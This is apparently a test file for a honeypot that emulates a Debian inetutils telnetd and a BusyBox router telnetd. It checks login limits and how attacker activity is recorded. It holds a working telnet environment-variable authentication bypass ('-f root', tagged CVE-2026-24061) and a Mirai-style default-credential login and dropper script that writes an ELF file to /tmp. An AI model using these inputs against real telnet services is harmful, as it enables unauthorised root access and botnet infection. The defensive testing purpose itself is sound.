import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Playing } from '../../harness.ts'
import { Client, serve } from './conversation.ts'

const recording = JSON.parse(readFileSync(new URL('./inetutils-2.4.json', import.meta.url), 'utf8')) as {
  dialogues: { name: string; steps: { who: 'client' | 'server'; bytes: string }[] }[]
}
const REFUSED = [
  "\xff\xfe%\xff\xfe&\xff\xfc\x18\xff\xfc \xff\xfc#\xff\xfc'\xff\xfc$",
  '\xff\xfe\x03\xff\xfc\x01\xff\xfc"\xff\xfc\x1f\xff\xfe\x05\xff\xfc!',
]

let debian: Playing
let router: Playing
beforeAll(async () => {
  ;[debian, router] = await Promise.all([serve('debian-web'), serve('openwrt-router')])
})
afterAll(async () => {
  await Promise.all([debian.stop(), router.stop()])
})

describe('inetutils-telnetd of Debian', () => {
  it.each(recording.dialogues)('speaks byte for byte as recorded to a client that $name', async ({ steps }) => {
    const client = await Client.to(debian)
    for (const { who, bytes } of steps) {
      if (who === 'client') client.send(bytes)
      else {
        const pattern = bytes
          .replace(/[.*+?^$()|[\]\\]/g, '\\$&')
          .replaceAll('{kernel}', '[\\w.-]+')
          .replaceAll('{host}', '[\\w-]+')
        expect(await client.until(new RegExp(pattern))).toMatch(new RegExp(`^${pattern}$`))
      }
    }
    client.close()
  })

  it('says nothing before the client has answered', async () => {
    const nothing = await debian.exchange('root\r\nx\r\n', { quietMs: 300 })
    expect(nothing.toString('latin1')).toBe(recording.dialogues[0]?.steps[0]?.bytes)
  })

  it('gives five tries, asks in vain for the password of nobody, and says why it ends', async () => {
    const strict = await serve('debian-web', { login: { policy: 'list', accept: [] } })
    const client = await Client.to(strict)
    for (const answer of REFUSED) client.send(answer)
    for (const user of ['', 'a\x7froot', 'b', 'c', 'd']) {
      await client.until(' login: ')
      client.send(`${user}\r\n`)
      expect(await client.until('Password: ')).toContain('\r\n')
      client.send('wrong\r\0')
    }
    expect(await client.rest()).toBe('\r\n\r\nLogin incorrect\r\nMaximum number of tries exceeded (5)\r\n')
    expect(strict.data('login').map(({ username, accepted }) => [username, accepted])).toEqual(
      ['', 'root', 'b', 'c', 'd'].map((user) => [user, false]),
    )
    await strict.stop()
  })

  it('opens a shell to CVE-2026-24061, without a password', async () => {
    const client = await Client.to(debian)
    client.send("\xff\xfe%\xff\xfe&\xff\xfb\x18\xff\xfc \xff\xfc#\xff\xfb'\xff\xfc$")
    await client.until("\xff\xfa'\x01\xff\xf0\xff\xfa\x18\x01\xff\xf0")
    client.send(`\xff\xfa'\x00\x00USER\x01-f root\xff\xf0\xff\xfa\x18\x00XTERM\xff\xf0${REFUSED[1]}`)
    await client.until('# ')
    client.send('echo $TERM; id -un; exit\r\n')
    expect(await client.rest()).toMatch(/xterm\r\nroot\r\n/)
    const exploit = debian.events.find(({ type, data }) => type === 'login' && data.username === '-f root')
    expect(exploit).toMatchObject({ data: { method: 'telnet-environment', accepted: true } })
    expect(exploit?.tags).toContain('cve:CVE-2026-24061')
    expect(debian.data('telnet.environment')).toContainEqual({ type: 'VAR', name: 'USER', value: '-f root' })
    expect(debian.data('telnet.terminal-type')).toContainEqual({ name: 'XTERM' })
  })

  it('asks only the password of a user whom the environment names', async () => {
    const client = await Client.to(debian)
    client.send("\xff\xfe%\xff\xfe&\xff\xfc\x18\xff\xfc \xff\xfc#\xff\xfb'\xff\xfc$")
    client.send(`\xff\xfa'\x00\x03USER\x01maris\xff\xf0${REFUSED[1]}`)
    expect(await client.until('Password: ')).not.toContain('login: ')
    client.close()
  })
})

describe('BusyBox telnetd of the router', () => {
  it('sends its four requests and the prompt at once, as Mirai expects it', async () => {
    const shown = (await router.exchange('', { quietMs: 300 })).toString('latin1')
    expect(shown).toMatch(/^\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\n[\w-]+ login: $/)
  })

  it('runs a script of the Mirai kind to its end and keeps its payload', async () => {
    const payload = Buffer.from('\x7fELF\x01\x02\x01payload', 'latin1')
    const echo = [...payload].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')
    const lines = ['root', 'xc3511', 'enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI', `echo -ne "${echo}" > /tmp/dvrHelper`]
    const client = await Client.to(router)
    client.send([...lines, 'chmod 777 /tmp/dvrHelper; /bin/busybox DONE', ''].join('\r\0'))
    const shown = await client.until('DONE: applet not found')
    expect(shown).toContain('\r\nECCHI: applet not found\r\n')
    client.close()
    await router.seen('telnet.terminal')
    expect(router.data('artifact').map(({ name, size }) => [name, size])).toContainEqual(['/tmp/dvrHelper', payload.length])
    expect([...router.artifacts.kept.values()].some((kept) => kept.equals(payload))).toBe(true)
  })

  it('lets a script finish whose sender has closed its side', async () => {
    const shown = await router.exchange('root\nxc3511\n/bin/busybox ECCHI\n', { end: true, quietMs: 3000 })
    expect(shown.toString('latin1')).toContain('ECCHI: applet not found\r\n')
  })

  it('gives three tries', async () => {
    const strict = await serve('openwrt-router', { authOnly: true })
    const client = await Client.to(strict)
    client.send('\r\nroot\r\nroot\r\nadmin\nadmin\nroot\rroot\r')
    expect((await client.rest()).match(/Login incorrect\r\n/g)).toHaveLength(3)
    expect(strict.data('login')).toMatchObject([{ password: 'root' }, { password: 'admin' }, { password: 'root' }])
    await strict.stop()
  })

  it('follows the window and writes down what the client can', async () => {
    const client = await Client.to(router)
    client.send('\xff\xfb\x1f\xff\xfa\x1f\x00\x84\x00\x2b\xff\xf0\xff\xfd\x03root\r\nadmin\r\n')
    await client.until('# ')
    client.close()
    await router.seen('telnet.window')
    expect(router.data('telnet.window')).toContainEqual({ columns: 132, rows: 43 })
    expect(router.data('telnet.option')).toEqual(
      expect.arrayContaining([
        { verb: 'WILL', option: 31 },
        { verb: 'DO', option: 3 },
      ]),
    )
  })
})
